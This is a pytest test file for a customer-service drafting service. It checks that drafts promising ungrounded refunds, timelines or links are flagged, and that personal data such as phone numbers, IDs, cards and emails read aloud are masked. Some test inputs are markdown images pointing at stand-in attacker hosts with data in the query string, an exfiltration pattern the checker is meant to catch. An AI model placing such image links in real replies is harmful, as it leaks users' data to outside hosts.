import pytest

from service.checker.grounding import check
from service.privacy.masking import id_checksum_ok, luhn_ok, mask
from builtin import PLAYBOOK
from service.drafting.triage import triage

P = PLAYBOOK


def rules(text, message="耳机坏了,订单20261103886", lang="zh-Hans"):
    return sorted(f.rule for f in check(text, P, triage(message, P), lang))


@pytest.mark.parametrize("text", [
    "我们将在24小时内补发,并发放30元优惠券。",
    "退款会在3个工作日内原路退回,进展见 https://status.yuexiang.example 。",
    "Updates at https://status.yuexiang.example, every 30 minutes.",
    "We will ship it within 24 hours and add a ¥30 voucher.",
])
def test_policy_times_amounts_and_links_are_grounded(text):
    assert rules(text) == []


@pytest.mark.parametrize("text,rule", [
    ("我们赔偿您¥10000。", "grounding.amount"),
    ("我们将在2小时内补发。", "grounding.time"),
    ("详情见 https://evil.example/x", "grounding.link"),
    ("![logo](https://tracker.example/p.png?d=secret)", "grounding.link"),
    ("We will refund $999 today.", "grounding.amount"),
])
def test_ungrounded_promises_are_flagged(text, rule):
    assert rule in rules(text)


@pytest.mark.parametrize("text,found", [
    ("我們會在2小時內給您回覆。", "2小時"),
    ("退款會在5個工作天內退回。", "5個工作天"),
    ("兩週內完成維修。", "兩週內"),
])
def test_traditional_chinese_times_are_grounded_too(text, found):
    """The recognisers are simplified; a zh-Hant draft is converted before matching, and the
    finding points at the traditional text as written."""
    findings = check(text, P, triage("耳機壞了", P, lang="zh-Hant"), "zh-Hant")
    assert [f.rule for f in findings] == ["grounding.time"]
    assert found in findings[0].text and text[findings[0].start:findings[0].end] == findings[0].text
    assert "時間" in findings[0].message  # the message in the draft's script
    assert check("我們會在24小時內補發,3個工作日內退款。", P, triage("耳機壞了", P, lang="zh-Hant"), "zh-Hant") == []


def test_a_markdown_image_is_reported_whole():
    text = "进度请看 ![status](http://evil.example/collect?c=1)。"
    (finding,) = check(text, P, triage("耳机坏了", P), "zh-Hans")
    assert finding.text == "![status](http://evil.example/collect?c=1)"


def test_a_billing_refund_may_return_what_was_charged():
    assert rules("多扣的¥299会在24小时内退回。", "扣了两次款,每次¥299") == []
    assert rules("补偿您¥299。", "耳机坏了") == ["grounding.amount"]


@pytest.mark.parametrize("raw,tag", [
    ("13812345678", "[PHONE …5678]"), ("+86 138 1234 5678", "[PHONE …5678]"),
    ("138-1234-5678", "[PHONE …5678]"), ("11010519491231002X", "[ID …002X]"),
    ("6222 0212 3456 7890 123", "[CARD …0123]"), ("4111111111111111", "[CARD …1111]"),
    ("li.lei@example.com", "[EMAIL …ecom]"), ("护照号E12345678", "护照号[PASSPORT …5678]"),
    ("0912-345-678", "[PHONE …5678]"), ("+886 912 345 678", "[PHONE …5678]"), ("A123456789", "[ID …6789]"),
])
def test_personal_data_is_masked(raw, tag):
    assert mask(f"联系我 {raw} 谢谢") == f"联系我 {tag} 谢谢"


@pytest.mark.parametrize("text", ["订单20261103886", "order 55123", "运单SF1234567890123"])
def test_order_numbers_are_left_alone(text):
    assert mask(text) == text


@pytest.mark.parametrize("text", ["11010519491231002Y", "A123456788"])
def test_an_invalid_id_is_not_called_an_id_but_is_still_masked(text):
    """A mistyped check digit is no ID, but nothing says whose number it is: it is masked."""
    assert mask(text) == f"[NUMBER …{text[-4:]}]"


@pytest.mark.parametrize("label, value", [
    ("", "139👉1146👉0258"),            # a format nobody listed, split by emoji
    ("FIN ", "G4288250Q"),              # an id of a country the recognisers do not know
    ("Aadhaar ", "7636 5630 9355"),
    ("", "一八二，嗯，一七四，五九九零三"),  # read out in groups, with a pause
    ("", "six oh two, one one, four four eight nine"),
])
def test_a_number_nothing_vouches_for_is_masked(label, value):
    out = mask(f"my details: {label}{value} thanks")
    assert out.startswith(f"my details: {label}[") and out.endswith("] thanks"), out
    assert value not in out and value[-4:] not in out.split("…")[0], out


@pytest.mark.parametrize("text", [
    "订单20261103886 和 SF1234567890123 都没到",  # a list after one label
    "Order placed 2026/1/10 3:41 pm, event id 1774286980",
    "firmware 2.1.0.1875 on IP 198.51.100.7",
    "India Post consignment EE123456789IN",
    "第6613843号工单还没处理，20261103提交的",
    "Call 1-800-555-0199 (toll free)",
    "the 8 steps: 1 2 3 4 5 6 7 8",
    "Nov 18, 2026 18:07 下的单",
])
def test_a_number_vouched_for_is_left_alone(text):
    assert mask(text) == text


def test_kept_values_are_not_masked():
    assert mask("订单13812345678", keep=("13812345678",)) == "订单13812345678"


def test_checksums():
    assert id_checksum_ok("11010519491231002X") and not id_checksum_ok("110105194912310021")
    assert luhn_ok("4111111111111111") and not luhn_ok("4111111111111112")


@pytest.mark.parametrize("text, pieces", [
    ("Customer 09:14\nmy SSN is 451-22-\nCustomer 09:14\n8093\nAgent 09:15\nthanks", ["451-22", "8093"]),
    ("我先打身分證前半 H2093\n再打後半 46767\n這樣可以嗎", ["H2093", "46767"]),
    ("my mobile starts with 0405\nthen 118\nthen 362", ["0405", "118", "362"]),
])
def test_a_value_given_in_pieces_is_masked_piece_by_piece(text, pieces):
    out = mask(text)
    assert all(p not in out for p in pieces), out
    assert out.count("09:1") == text.count("09:1")  # the chat's own times stay


@pytest.mark.parametrize("text", [
    "我的手机号是13812345678，然后订单号是20261103886",
    "My phone is fine, then I ordered 2 more on 11/05",
    "电话 110 报警了，然后等了 20 分钟",
])
def test_a_whole_value_or_no_cue_opens_no_pieces(text):
    out = mask(text)
    assert "20261103886" in out or "20 分钟" in out or "2 more" in out, out


@pytest.mark.parametrize("text, value", [
    ("客户：邮箱是 l i u m i n 六六 at 一二六 点 com，对", "l i u m i n"),
    ("email 係 kit 底線 wong 七七 at yahoo 點 com 點 hk 呀", "kit 底線 wong"),
    ("[voice] my email is j o e dot lam at outlook dot com okay", "j o e dot lam"),
])
def test_an_email_read_out_is_masked(text, value):
    out = mask(text)
    assert value not in out and "[EMAIL" in out, out


def test_an_email_word_with_no_address_read_out_is_left_alone():
    text = "please email me at the address on file, dot com or not"
    assert mask(text) == text


def test_an_agent_field_keeps_a_helpdesk_user_id_but_not_a_phone_or_email():
    from service.privacy.masking import mask_name

    assert mask_name("43000007") == "43000007"  # an export's author_id: the per-agent key
    assert mask_name("43000007;43000009") == "43000007;43000009"
    assert "13812345678" not in mask_name("13812345678")
    assert "amy.lee@gmail.com" not in mask_name("Amy amy.lee@gmail.com")


@pytest.mark.parametrize("text", ["如有问题请拨打400-820-1234 (9:00-21:00)", "Call 1-800-555-0199 (9:00 to 5pm)"])
def test_a_hotline_with_its_opening_hours_is_left_alone(text):
    assert mask(text) == text


def test_a_phone_before_its_hours_is_masked_without_the_hour():
    assert mask("打我手机 0912-345-678 (9:00 以后)") == "打我手机 [PHONE …5678] (9:00 以后)"
